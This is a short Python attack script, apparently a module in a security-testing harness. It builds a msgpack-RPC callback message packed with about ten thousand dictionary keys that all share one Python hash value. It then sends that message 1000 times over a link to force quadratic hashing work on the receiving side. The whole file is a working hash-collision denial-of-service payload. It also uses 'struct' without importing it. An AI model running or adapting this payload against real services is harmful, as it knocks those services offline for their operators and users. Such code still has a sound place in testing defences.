"""Answers with dictionaries whose keys all have the same hash."""

# /// attack
# uses = ["link"]
# prints = ["armed"]
# ///

# %% before
import msgpack
entries = [2]
for k in range(9_999):
    entries += [[6, hex((2**61 - 1) * (8 + k))], 0]  # all of one hash
head = msgpack.packb([0, "callback", 0, [0], [0, *[entries] * 4]])
head = struct.pack(">II", len(head), 0) + head
def serve():
    for _ in range(1000):
        link.sendall(head)
answering.start.answer = serve
print("armed", len(head))
